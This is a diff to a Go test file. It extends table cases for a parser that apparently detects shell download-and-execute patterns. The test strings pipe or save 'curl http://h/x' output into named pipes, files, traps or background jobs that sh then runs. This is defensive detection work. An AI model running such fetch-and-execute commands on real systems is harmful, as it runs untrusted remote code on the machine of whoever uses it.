@@ -243,19 +243,23 @@ func TestSourceNames(t *testing.T) {
 	}
 }
 
-// Who reads a named pipe may be started before its writer.
-func TestNamedPipes(t *testing.T) {
+// Who reads a named pipe may be started before its writer, and so may a job in the background.
+func TestReadersBeforeTheirWriters(t *testing.T) {
 	for _, c := range []struct {
 		why, source string
 		want        parser.Truth
 	}{
 		{"the reader first", "mkfifo p; sh < p & curl http://h/x > p", parser.Yes},
-		{"a file in the place of the pipe", "sh < p & curl http://h/x > p", parser.No},
+		{"a file in the place of the pipe", "sh < p && curl http://h/x > p", parser.No},
+		{"a job in the background, which may be later", "sh < p & curl http://h/x > p", parser.Yes},
+		{"a job that waits", "(sleep 5; sh p) & curl -o p http://h/x", parser.Yes},
+		{"a filter in the background", "cat p | sh & curl http://h/x > p", parser.Yes},
+		{"a trap before the file", "trap 'sh p' EXIT; curl -o p http://h/x", parser.Yes},
 		{"through a filter", "mkfifo p q; sh < q & cat p > q & curl http://h/x > p", parser.Yes},
 		{"with a mode", "mkfifo -m 600 p; . ./p & curl -o p http://h/x", parser.Yes},
 		{"by mknod", "mknod /tmp/p p; sh /tmp/p & curl http://h/x > /tmp/p", parser.Yes},
 		{"another pipe", "mkfifo p q; sh < q & curl http://h/x > p", parser.No},
-		{"before there is one", "sh < p; mkfifo p; curl http://h/x > p", parser.No},
+		{"before there is a pipe", "sh < p; mkfifo p; curl http://h/x > p", parser.No},
 	} {
 		invs, g := read(t, c.source)
 		best := parser.No
